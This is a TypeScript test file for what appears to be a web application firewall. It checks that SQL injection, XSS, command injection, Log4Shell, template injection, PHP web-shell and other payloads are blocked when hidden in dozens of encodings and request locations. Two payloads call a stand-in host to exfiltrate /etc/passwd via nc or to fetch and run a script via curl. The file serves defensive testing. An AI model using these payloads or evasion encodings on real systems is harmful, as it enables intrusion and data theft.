import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import type { InspectedRequest } from '../parse/index.ts';
import { choices, encodeLatin1, post, query, request } from '../testing/requests.ts';
import { compilePolicy, explain, inspect } from './index.ts';

const policy = compilePolicy({ securityLevel: 'medium', categories: choices('medium') });
const host = ['host', 'shop.example.com'] as const;

/** A way into an application, and the decoders that an explanation must name because they stand in that way. */
interface Carrier {
  readonly name: string;
  readonly make: (payload: string) => InspectedRequest;
  readonly decoders: readonly string[];
}

type CarrierRow = readonly [
  name: string,
  make: (payload: string) => InspectedRequest,
  decoders?: readonly string[],
];

const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');
const base64url = (text: string) => Buffer.from(text, 'latin1').toString('base64url');
const asXml = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const field = (disposition: string, content: string) =>
  post(
    'multipart/form-data; boundary=b',
    `--b\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${content}\r\n--b--\r\n`,
  );

const rows: readonly CarrierRow[] = [
  ['a query parameter', (payload) => query(payload), ['urlDecode']],
  [
    'the name of a parameter',
    (payload) => request({ target: `/?${encodeLatin1(payload)}=1` }),
    ['urlDecode'],
  ],
  [
    'a piece of the path',
    (payload) => request({ target: `/view/${encodeLatin1(payload)}` }),
    ['urlDecodeUni'],
  ],
  ['a parameter encoded twice', (payload) => query(encodeLatin1(payload)), ['urlDecode', 'urlDecodeUni']],
  [
    'a parameter in %uXXXX',
    (payload) =>
      request({
        target: `/?q=${[...payload].map((char) => `%u00${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}`,
      }),
    ['urlDecodeUni'],
  ],
  ['base64 in a parameter', (payload) => query(base64(payload)), ['urlDecode', 'base64Decode']],
  [
    'a form',
    (payload) => post('application/x-www-form-urlencoded', `a=1&b=${encodeLatin1(payload)}`),
    ['urlDecode'],
  ],
  ['JSON', (payload) => post('application/json', JSON.stringify({ a: [{ b: payload }] })), ['json']],
  [
    'JSON with every letter escaped',
    (payload) =>
      post(
        'application/json',
        `{"a":"${[...payload].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
      ),
    ['json', 'jsDecode'],
  ],
  [
    'JSON in a form',
    (payload) =>
      post('application/x-www-form-urlencoded', `a=${encodeLatin1(JSON.stringify({ b: payload }))}`),
    ['urlDecode', 'json'],
  ],
  [
    'base64 of JSON in JSON',
    (payload) =>
      post('application/json', JSON.stringify({ a: base64(JSON.stringify({ long: 'enough', b: payload })) })),
    ['json', 'base64Decode', 'json'],
  ],
  [
    'a string of GraphQL',
    (payload) =>
      post(
        'application/json',
        JSON.stringify({ query: `query { user(name: ${JSON.stringify(payload)}) { id } }` }),
      ),
    ['json', 'graphql'],
  ],
  ['the text of an XML element', (payload) => post('text/xml', `<a><b>${asXml(payload)}</b></a>`), ['xml']],
  ['an XML attribute', (payload) => post('application/soap+xml', `<a b="${asXml(payload)}"/>`), ['xml']],
  ['CDATA', (payload) => post('text/xml', `<a><![CDATA[${payload}]]></a>`), ['xml']],
  [
    'CDATA in pieces',
    (payload) =>
      post('text/xml', `<a><![CDATA[${payload.slice(0, 5)}]]><!-- --><![CDATA[${payload.slice(5)}]]></a>`),
    ['xml'],
  ],
  [
    'JSON behind a byte order mark',
    (payload) => post('application/json', `\xef\xbb\xbf${JSON.stringify({ a: payload })}`),
  ],
  ['a multipart field', (payload) => field('name="a"', payload)],
  ['a multipart field with an empty file name', (payload) => field('name="a"; filename=""', payload)],
  [
    'a multipart field with two dispositions',
    (payload) => field('name="a"; filename="a.txt"\r\nContent-Disposition: form-data; name="a"', payload),
  ],
  [
    'a blob of JSON in a multipart body',
    (payload) =>
      field('name="a"; filename="blob"\r\nContent-Type: application/json', JSON.stringify({ b: payload })),
    ['json'],
  ],
  [
    'a multipart field in quoted-printable',
    (payload) =>
      field(
        'name="a"\r\nContent-Transfer-Encoding: quoted-printable',
        [...payload].map((char) => `=${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join(''),
      ),
    ['quoted-printable transfer encoding'],
  ],
  [
    'a part behind the closing boundary',
    (payload) =>
      post(
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--b--\r\n--b\r\nContent-Disposition: form-data; name="c"\r\n\r\n${payload}\r\n--b--\r\n`,
      ),
  ],
  [
    'a cookie',
    (payload) => request({ headers: [host, ['cookie', `a=1; b=${encodeLatin1(payload)}`]] }),
    ['urlDecode'],
  ],
  [
    'the query of the Referer',
    (payload) => request({ headers: [host, ['referer', `https://x.example/?a=${encodeLatin1(payload)}`]] }),
    ['urlDecode'],
  ],
  ['the User-Agent', (payload) => request({ headers: [host, ['user-agent', payload]] })],
  ['a header', (payload) => request({ headers: [host, ['x-api-version', payload]] })],
  ['plain text', (payload) => post('text/plain', payload)],
  [
    'a compressed body',
    (payload) => ({
      ...post('application/json', gzipSync(JSON.stringify({ a: payload })).toString('latin1')),
      headers: [host, ['content-type', 'application/json'], ['content-encoding', 'gzip']],
    }),
    ['json'],
  ],
  [
    'a body compressed in two members',
    (payload) => ({
      ...post(
        'application/x-www-form-urlencoded',
        Buffer.concat([gzipSync('a=1&'), gzipSync(`b=${encodeLatin1(payload)}`)]).toString('latin1'),
      ),
      headers: [host, ['content-type', 'application/x-www-form-urlencoded'], ['content-encoding', 'gzip']],
    }),
  ],
  [
    'a picture that is posted without a type',
    (payload) => post('', `GIF89a\x01\0\0&b=${encodeLatin1(payload)}`),
    ['urlDecode'],
  ],
  [
    'a picture of two types',
    (payload) => ({
      ...post('image/gif', `GIF89a&b=${encodeLatin1(payload)}`),
      headers: [host, ['content-type', 'image/gif'], ['content-type', 'application/x-www-form-urlencoded']],
    }),
    ['urlDecode'],
  ],
  [
    'the rest of what is compressed',
    (payload) => ({
      ...post(
        '',
        Buffer.concat([gzipSync('a=1'), Buffer.from(`&b=${encodeLatin1(payload)}`)]).toString('latin1'),
      ),
      headers: [host, ['content-type', 'application/x-www-form-urlencoded'], ['content-encoding', 'gzip']],
    }),
    ['urlDecode'],
  ],
  [
    'an entity that the document declares',
    (payload) => post('application/xml', `<!DOCTYPE a [<!ENTITY x "${asXml(payload)}">]><a>&x;</a>`),
    ['xml'],
  ],
  [
    'two entities that the document declares',
    (payload) => {
      const half = Math.floor(payload.length / 2);
      const [one, two] = [payload.slice(0, half), payload.slice(half)].map(asXml);
      return post(
        'application/xml',
        `<!DOCTYPE a [<!ENTITY x "${one}">\n<!ENTITY y '${two?.replaceAll("'", '&#39;')}'><!ENTITY z "&x;&y;">]><a b="&z;"/>`,
      );
    },
    ['xml'],
  ],
  [
    'a block of a GraphQL document',
    (payload) => post('application/json', JSON.stringify({ query: `{ a(b: """say "${payload}"""") }` })),
  ],
  [
    'base64 in a piece of the path',
    (payload) => request({ target: `/x/${base64url(payload)}` }),
    ['base64Decode'],
  ],
  [
    'base64 in lines',
    (payload) => query(base64(`${payload}          `).replace(/.{20}/g, '$&\r\n')),
    ['base64Decode'],
  ],
  ['spaces of other widths', (payload) => query(payload.replaceAll(' ', '\xe2\x80\x83'))],
  [
    'letters of mathematics',
    (payload) =>
      query(
        payload.replace(
          /[a-z]/g,
          (letter) => `\xf0\x9d\x90${String.fromCharCode(0x9a + letter.charCodeAt(0) - 97)}`,
        ),
      ),
    ['fullWidth'],
  ],
  [
    'small forms',
    (payload) =>
      query(
        payload.replace(
          /[<>;{}()$=*]/g,
          (sign) =>
            `\xef\xb9${String.fromCharCode('\x94\x99\x9a\x9b\x9c\xa1\xa4\xa5\xa6\xa9'.charCodeAt(';(){}*<>=$'.indexOf(sign)))}`,
        ),
      ),
    ['fullWidth'],
  ],
  [
    'the type that a file says it has',
    (payload) => field(`name="a"; filename="a.txt"\r\nContent-Type: ${payload}`, 'x'),
  ],
  [
    'a blob of JSON without a type',
    (payload) => field('name="a"; filename="blob"', JSON.stringify({ b: payload })),
    ['json'],
  ],
  [
    'a file name in encoded words',
    (payload) =>
      field(
        `name="a"; filename="=?utf-8?Q?${[...payload].map((char) => `=${char.charCodeAt(0).toString(16)}`).join('')}?="`,
        'x',
      ),
  ],
];

const carriers = rows.map(([name, make, decoders = []]): Carrier => ({ name, make, decoders }));

/** One attack a class, each of more than twelve characters so that base64 of it can be told from a word. */
const attacks = [
  "1' union select user, password from users-- ",
  "x' or 'a'='a' -- -",
  '1 and (select 1 from(select(sleep(5)))a)',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '; cat /etc/passwd | nc x.example 4444',
  '$(curl http://x.example/a.sh|sh)',
  '../../../../../etc/passwd',
  '${jndi:ldap://x.example/a}',
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  'T(java.lang.Runtime).getRuntime().exec("id")',
  '<?php system($_GET["c"]); ?>',
  'O:8:"Evil":1:{s:1:"a";i:1;}',
  '*)(uid=*))(|(uid=*',
];

describe('every carrier', () => {
  test.each(carriers)('$name: each class of attack is blocked', ({ make }) => {
    const missed = attacks.filter((payload) => inspect(policy, make(payload)).decision !== 'block');
    expect(missed).toEqual([]);
  });

  test.each(carriers.filter(({ decoders }) => decoders.length > 0))(
    '$name: the explanation lists every decoder that was needed',
    ({ make, decoders }) => {
      const request = make('<img src=x onerror=alert(1)>');
      const { verdict, evaluations } = explain(policy, request);
      const match = verdict.matches.find(({ ruleId }) => ruleId === 'xss-event-handler');
      expect(match?.transformations.filter((one) => decoders.includes(one))).toEqual(decoders);
      expect(match?.value).toContain('<img src=x onerror=alert(1)>');
      const evaluated = evaluations.find(({ matched }) => matched.includes('xss-event-handler'));
      expect(evaluated).toMatchObject({ target: match?.target, decoders: match?.transformations });
      expect(evaluated?.evaluated).toContain('xss-event-handler');
    },
  );
});
